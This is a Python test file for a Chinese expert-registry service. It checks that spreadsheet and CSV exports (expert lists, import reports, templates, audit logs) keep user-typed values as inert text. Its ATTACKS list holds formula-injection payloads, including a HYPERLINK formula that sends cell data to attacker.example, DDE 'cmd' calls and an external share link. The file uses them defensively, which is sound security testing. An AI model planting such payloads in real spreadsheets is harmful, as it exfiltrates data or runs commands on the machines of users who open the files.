"""Spreadsheet injection: whatever people type, in no file that leaves the system does a cell calculate."""

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from python_calamine import load_workbook

from contracts.words import ExpertKind, Role
from experts.tests.service import registers
from experts.tests.service.given import applicant, organization
from foundation.ids import uuid7
from foundation.workbooks import listing
from foundation.workbooks.listing import ListColumn, Listing, Mark
from foundation.workbooks.writing import Template, TemplateColumn, template
from gateway.forms import audit_filter, audit_lines
from gateway.pages.audit import exporting
from identity.tests.service import units

SERVICES = Path(__file__).parents[2] / "services"
BEGIN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
ATTACKS = (
    '=HYPERLINK("https://attacker.example/?"&A1,"详情")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\x0b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1"',
    '","=1+1',
    '"\r\n=1+1,',
    "_x003D_1+1",
    "_x0009_=1+1",
    "https://attacker.example/",
    "internal:Sheet1!A1",
    "external:\\\\attacker.example\\share\\a.xlsx",
    "mailto:a@attacker.example",
    "{=1+1}",
    "</t></is></c><c><f>1+1</f></c>",
)


def assert_text_only(data: bytes) -> list[list[object]]:
    """Fail unless a workbook holds texts and nothing that calculates or leads elsewhere; return its first sheet."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    for name, part in parts.items():
        assert "externalLink" not in name
        assert "vbaProject" not in name
        if name.startswith("xl/worksheets/") and not name.endswith(".rels"):
            assert not re.search(r"<f[ >/]", part), name
            assert "<hyperlink" not in part, name
            assert not re.search(r"_x003[Dd]_", part.replace("_x005F_x003D_", "")), name
        if name.endswith(".rels"):
            assert 'TargetMode="External"' not in part, name
    for name in load_workbook(io.BytesIO(data)).sheet_names:
        for row in load_workbook(io.BytesIO(data)).get_sheet_by_name(name).to_python():
            assert all(isinstance(cell, str) for cell in row), row
    return load_workbook(io.BytesIO(data)).get_sheet_by_index(0).to_python()


def calculates(cell: str) -> bool:
    """Return whether a spreadsheet may take a text for a formula once it is saved as CSV and opened again."""
    return cell.lstrip().startswith(BEGIN) or cell.startswith(BEGIN)


def as_csv(table: list[list[object]]) -> list[list[str]]:
    """Return a sheet as it comes back when somebody saves it as CSV."""
    text = io.StringIO()
    csv.writer(text).writerows(table)
    return list(csv.reader(io.StringIO(text.getvalue(), newline="")))


def test_these_tests_know_every_place_that_writes_spreadsheets():
    """One more needs a test here."""
    writing = re.compile(r"^(?:import|from) (?:xlsxwriter|csv)\b", re.M)
    found = {
        str(path.relative_to(SERVICES))
        for path in SERVICES.rglob("*.py")
        if "tests" not in path.parts and "testing" not in path.parts and writing.search(path.read_text())
    }
    assert found == {
        "contracts/reference/files.py",  # reads our own
        "foundation/workbooks/listing.py",
        "foundation/workbooks/plain_rows.py",
        "foundation/workbooks/writing.py",
        "gateway/pages/audit/exporting.py",
    }
    listed = re.compile(r"listing\.write\(|writing\.template\(")
    users = {
        str(path.relative_to(SERVICES))
        for path in SERVICES.rglob("*.py")
        if "tests" not in path.parts and listed.search(path.read_text())
    }
    assert users == {
        "experts/exports/usecases/writing.py",
        "experts/register_imports/usecases/finding.py",
        "experts/register_imports/usecases/template.py",
        "identity/employee_imports/usecases/template.py",
    }


def test_a_list_holds_every_attack_as_text_also_once_it_is_saved_as_csv(tmp_path):
    file = tmp_path / "list.xlsx"
    columns = tuple(ListColumn(f"列{place}", 10) for place in range(len(ATTACKS)))
    listing.write(Listing("名单", columns), [ATTACKS, ATTACKS], file)
    _, *rows = assert_text_only(file.read_bytes())
    assert len(rows) == 2
    for row in as_csv(rows):
        assert not [cell for cell in row if calculates(cell)]
    unchanged = [text for text in ATTACKS if not calculates(text) and text.isprintable()]
    assert unchanged
    assert set(unchanged) <= {str(cell) for cell in rows[0]}, "what is no attack stays as it is"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_among_plain_texts_is_not_taken_for_one(tmp_path, attack):
    """Rows in which nothing needs care are written a quicker way: one attack is enough to leave it."""
    file = tmp_path / "list.xlsx"
    columns = tuple(ListColumn(f"列{place}", 10) for place in range(3))
    rows = [[attack, "甲", "乙"], ["甲", attack, "乙"], ["甲", "乙", attack], ["甲", "乙", "丙"]]
    listing.write(Listing("名单", columns), rows, file)
    _, *written = assert_text_only(file.read_bytes())
    assert len(written) == len(rows)
    for row in as_csv(written):
        assert not [cell for cell in row if calculates(cell)]
    assert [len(row) for row in written] == [3] * 4
    assert written[3] == ["甲", "乙", "丙"]


def test_who_exports_cannot_hide_a_formula_in_the_mark(tmp_path):
    from foundation.papers.fonts import regular_font

    fonts = SERVICES.parent / "node_modules" / "@expo-google-fonts" / "noto-sans-sc"
    for attack in ATTACKS:
        file = tmp_path / "list.xlsx"
        mark = Mark(f"专家名单　导出人：{attack}", (attack.strip().splitlines()[0],), regular_font(fonts))
        listing.write(Listing("名单", (ListColumn("姓名", 9),), mark, attack), [["甲"]], file)
        [[first], *_] = assert_text_only(file.read_bytes())
        assert not calculates(str(first))


def test_choices_of_a_template_are_texts_however_many_there_are():
    for choices in (ATTACKS, ATTACKS[:2], *[(attack, "甲") for attack in ATTACKS]):
        column = TemplateColumn("专业", 20, choices=tuple(choices))
        data = template(Template("名单", (column,), ((choices[0],),), 9, ("说明", choices[0])))
        assert_text_only(data)
        with zipfile.ZipFile(io.BytesIO(data)) as package:
            sheet = package.read("xl/worksheets/sheet1.xml").decode()
        [rule] = re.findall("<formula1>(.*?)</formula1>", sheet, re.S)
        assert re.fullmatch(r"'?选项'?!\$A\$1:\$A\$\d+|\"[^\"]*\"", rule), rule


async def test_the_audit_log_as_csv_holds_every_attack_as_text():
    names = {name for _, name in audit_filter.COLUMNS}
    lines = [dict.fromkeys(names, attack) for attack in ATTACKS]

    async def batches():
        yield lines

    data = b"".join([part async for part in exporting._file(batches(), 1000)])
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [len(row) for row in table] == [len(audit_filter.COLUMNS)] * (1 + len(ATTACKS))
    for row, attack in zip(table[1:], ATTACKS, strict=True):
        assert not [cell for cell in row if calculates(cell)], attack
        assert {cell.removeprefix("'") for cell in row} == {attack}, "and the text is all there"


def test_an_entry_of_the_audit_log_whose_every_part_attacks_is_text():
    for attack in ATTACKS:
        entry = {
            "id": attack, "at": datetime.now(UTC).isoformat(), "actor_id": str(uuid7()), "actor_name": attack,
            "address": attack, "action": attack, "object_kind": attack, "object_id": attack, "result": attack,
            "reason": attack, "details": {attack: attack}, "trace_id": attack, "position": 1, "hash": attack,
            "cursor": "c",
        }  # fmt: skip
        cells = audit_filter.cells(audit_lines.line("identity", entry, {}))
        assert not [cell for cell in cells if calculates(cell)], attack


@pytest.fixture
async def by(experts):
    """Return who maintains the library, under a name that is a formula."""
    keeper = await registers.coordinator(experts)
    return experts.actor(
        Role.ASSOCIATION_COORDINATOR,
        organization_id=next(iter(keeper.organizations(Role.ASSOCIATION_COORDINATOR))),
        name=ATTACKS[1],
    )


async def asked(experts, by, path: str) -> bytes:
    """Return a file that somebody takes away."""
    answer = await experts.client.get(path, headers=experts.as_(by))
    assert answer.status_code == 200, answer.text
    return answer.content


TYPED = ("employer_name", "graduation", "major", "title", "position")


@pytest.mark.service
async def test_the_library_as_a_workbook_holds_every_field_of_an_expert_as_text(experts, by):
    """The name comes from identity by a fact; what the form takes in is typed by the expert."""
    accepted = 0
    for attack in ATTACKS[:6]:
        person = await applicant(experts, name=attack.strip(), employer_name=attack)
        for field in TYPED:
            accepted += (await person.save(**{field: attack})).status_code == 200
        fields = (await person.record())["draft"]
        typed = {name: fields[name] for name in TYPED if fields.get(name)}
        await person.listed(ExpertKind.REGIONAL, **typed)
    assert accepted > 6, "the form takes such texts in: it is the file that must not calculate"
    await organization(
        experts, name=ATTACKS[0], organization_id=min(by.organizations(Role.ASSOCIATION_COORDINATOR))
    )
    made = await experts.client.post(
        "/library/exports", json={"unmasked": True, "reason": "=1+1 核对证件"}, headers=experts.as_(by)
    )
    assert made.status_code == 202, made.text
    await experts.run_tasks()
    data = await asked(experts, by, f"/library/exports/{made.json()['id']}/content")
    mark, head, *rows = assert_text_only(data)
    assert len(rows) == 6
    assert {row[head.index("姓名")] for row in rows} == {f"'{attack.strip()}" for attack in ATTACKS[:6]}
    for row in as_csv([mark, *rows]):
        assert not [cell for cell in row if calculates(cell)]


@pytest.mark.service
async def test_the_report_of_an_import_holds_every_cell_of_the_register_as_text(experts, by):
    titles = ("姓名", "身份证号码", "所在地区", "现工作单位", "专业", "专家类型", "邮箱", "工作年限")
    lines = [
        registers.expert(order, **{title: attack for title in titles if title != "专家类型"})
        for order, attack in enumerate(ATTACKS)
    ]
    import_id = await registers.checked(experts, by, *lines)
    table = assert_text_only(await asked(experts, by, f"/library/imports/{import_id}/report"))
    assert len(table) == 1 + len(ATTACKS)
    for row in as_csv(table):
        assert not [cell for cell in row if calculates(cell)]


@pytest.mark.service
async def test_a_template_holds_the_words_of_the_dictionaries_as_text(experts, by):
    admin = experts.as_(experts.actor(Role.PLATFORM_ADMIN))
    for attack in ATTACKS:
        answer = await experts.client.post(
            "/dictionaries/kinds/specialty/entries", json={"label": attack}, headers=admin
        )
        assert answer.status_code in (201, 409), answer.text
    data = await asked(experts, by, "/library/imports/template")
    assert_text_only(data)
    book = load_workbook(io.BytesIO(data))
    assert any(
        ATTACKS[0] in row for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()
    )


@pytest.mark.service
async def test_the_template_of_a_units_people_is_text(identity):
    headers = (await units.administrator(identity, await units.unit(identity)))[1]
    answer = await identity.client.get("/employees/import-template", headers=headers)
    table = assert_text_only(answer.content)
    for row in as_csv(table):
        assert not [cell for cell in row if calculates(cell)]
